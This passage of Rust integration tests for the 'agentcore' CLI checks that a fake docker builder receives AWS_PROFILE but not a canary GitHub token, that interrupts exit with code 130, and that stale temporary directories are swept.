    std::fs::create_dir_all(world.path("home/.docker")).unwrap();
    std::fs::write(world.path("home/.docker/config.json"), r#"{"credHelpers": {"r.example": "ecr-login"}}"#).unwrap();
    let file = world.path("bin/docker");
    std::fs::write(&file, format!("#!/bin/sh\nexport -p >> '{}'\necho 28.0.0\n", dump.display())).unwrap();
    std::fs::set_permissions(&file, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    world.write("agent.py", "app = 1\n").write("requirements.txt", "");
    world.agentcore(&["configure", "-ni", "-e", "agent.py", "-n", "a", "--region", "us-west-2"]).run().code(0);
    let command =
        world.agentcore(&["build", "--builder", "engine"]).var("AWS_PROFILE", "mine").var("GITHUB_TOKEN", "canary");
    command.run();
    let seen = std::fs::read_to_string(dump).unwrap();
    assert!(seen.contains("AWS_PROFILE") && !seen.contains("canary"), "{seen}");
}

/// Whether the process catches SIGINT by now.
#[cfg(target_os = "linux")]
fn catches_interrupt(pid: u32) -> bool {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap_or_default();
    let mask = status.lines().find_map(|line| line.strip_prefix("SigCgt:")).map_or("0", str::trim);
    u64::from_str_radix(mask, 16).unwrap_or(0) & 2 != 0
}

#[cfg(target_os = "linux")]
#[test]
fn an_interrupt_is_130_however_early_it_comes() {
    let signal = |pid: u32| std::process::Command::new("kill").args(["-INT", &pid.to_string()]).status().unwrap();
    for while_reading in [false, true] {
        let world = World::new();
        world.write("agent.py", "app = 1\n").write("requirements.txt", "");
        // Reading it waits until somebody writes, so that the command cannot be over before the signal comes.
        let fifo = world.project().join("fifo.yaml");
        assert!(std::process::Command::new("mkfifo").arg(&fifo).status().unwrap().success());
        let configure = ["configure", "-ni", "-e", "agent.py", "-n", "a", "--config", "fifo.yaml"];
        let mut child = world.agentcore(&configure).spawn();
        while !catches_interrupt(child.id()) {
            std::thread::yield_now();
        }
        if while_reading {
            // Opening it to write waits for the reader.
            let writer = std::fs::OpenOptions::new().write(true).open(&fifo).unwrap();
            signal(child.id());
            drop(writer);
        } else {
            signal(child.id());
        }
        // Lets it go on wherever it reads by now.
        while child.try_wait().unwrap().is_none() {
            drop(std::fs::OpenOptions::new().read(true).write(true).open(&fifo));
            std::thread::yield_now();
        }
        let status = child.wait().unwrap();
        assert_eq!(status.code(), Some(130), "{status} {while_reading}");
    }
}

#[test]
fn killed_write_is_ignored_by_git_and_swept() {
    let world = World::new();
    world.write("agent.py", "app = 1\n").write("requirements.txt", "");
    let left = ".agentcore-Ab3dE6";
    world.write(&format!("{left}/.gitignore"), "*\n").write(&format!("{left}/new"), "half");
    let old = std::time::SystemTime::now() - std::time::Duration::from_secs(1200);
    let new = std::fs::File::options().append(true).open(world.project().join(left).join("new")).unwrap();
    new.set_modified(old).unwrap();
    std::fs::File::open(world.project().join(left)).unwrap().set_modified(old).unwrap();
    world.agentcore(&["configure", "-ni", "-e", "agent.py", "-n", "a", "--region", "us-west-2"]).run().code(0);
    let names =
        || std::fs::read_dir(world.project()).unwrap().map(|item| item.unwrap().file_name().into_string().unwrap());
    assert!(!names().any(|name| name.starts_with(".agentcore-")), "{:?}", names().collect::<Vec<_>>());
}
